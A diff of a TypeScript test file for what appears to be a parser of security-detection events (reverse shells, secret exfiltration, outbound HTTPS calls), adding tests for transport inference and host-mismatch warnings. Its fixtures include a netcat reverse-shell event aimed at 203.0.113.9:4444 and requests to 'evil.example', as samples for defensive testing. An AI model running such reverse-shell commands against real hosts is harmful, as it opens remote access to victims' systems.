@@ -106,8 +106,11 @@ describe('the far end of a reverse shell', () => {
   it('gives way to an endpoint in the payload, and can be turned off', () => {
     const event = { exe: 'nc', arguments: ['nc', '203.0.113.9', '4444'] };
     expect(shellOf(event, { deriveDestination: false })).toBeUndefined();
-    const said = read(payloadOf('Reverse-Shell', { process_events: [event], endpoint: 'said.example:1' }));
-    expect(said.endpoint?.domain).toBe('said.example');
+    const said = (endpoint: string) =>
+      read(payloadOf('Reverse-Shell', { process_events: [event], endpoint })).endpoint;
+    expect(said('said.example:1')?.domain).toBe('said.example');
+    // What is no host hides none.
+    expect(said(':443')).toMatchObject({ raw: ':443', ip: '203.0.113.9', port: 4_444 });
   });
 });
 
@@ -154,13 +157,27 @@ describe('an HTTPS call', () => {
   });
 });
 
+test.each<[string, JsonObject, string | undefined]>([
+  ['HTTPS-Outbound-Network-Call', { host: 'a.example', method: 'GET' }, 'tcp'],
+  ['Secret-Exfiltration-Attempt', { host: 'a.example', method: 'POST', path: '/x' }, 'tcp'],
+  ['Brand-New', { endpoint: 'a.example:443', host: 'a.example', path: '/x' }, 'tcp'],
+  ['Brand-New', { path: 'https://a.example/x' }, 'tcp'],
+  ['Brand-New', { endpoint: 'a.example:443/udp', host: 'a.example', path: '/x' }, 'udp'],
+  // A host alone may be asked by anything.
+  ['Brand-New', { host: 'a.example' }, undefined],
+  ['Brand-New', { host: 'a.example', method: 'a b' }, undefined],
+  ['Source-Code-Overwritten', { endpoint: 'a.example:443', path: '/x' }, undefined],
+])('a request goes over TCP: %s %j', (id, fields, transport) => {
+  expect(read(payloadOf(id, fields)).endpoint?.transport).toBe(transport);
+});
+
 describe('the parts of a URL', () => {
   const partsOf = (fields: JsonObject) => {
     const { http, endpoint, file, unmapped, related, warnings } = read(
       payloadOf('HTTPS-Outbound-Network-Call', { method: 'POST', ...fields }),
     );
-    expect([file, unmapped, warnings]).toEqual([undefined, undefined, []]);
-    return { ...http, to: endpoint?.address, hosts: related.hosts };
+    expect([file, unmapped]).toEqual([undefined, undefined]);
+    return { ...http, to: endpoint?.address, hosts: related.hosts, warnings };
   };
   test.each<[JsonObject, object]>([
     [
@@ -175,6 +192,7 @@ describe('the parts of a URL', () => {
         query: 'b',
         full: 'https://evil.example/a?b',
         original: 'https://evil.example/a?b',
+        warnings: [],
       },
     ],
     [
@@ -187,6 +205,8 @@ describe('the parts of a URL', () => {
         full: 'http://evil.example:81',
         to: 'proxy.example',
         hosts: ['proxy.example', 'evil.example'],
+        // HTTP wants both to be the same.
+        warnings: ['host_mismatch'],
       },
     ],
     [{ path: 'https://evil.example/a' }, { domain: 'evil.example', path: '/a', to: 'evil.example' }],
@@ -209,7 +229,7 @@ describe('the parts of a URL', () => {
       { domain: 'api.github.com', port: undefined },
     ],
   ])('%j', (fields, expected) => {
-    expect(partsOf(fields)).toMatchObject(expected);
+    expect(partsOf(fields)).toMatchObject({ warnings: [], ...expected });
   });
 });
 
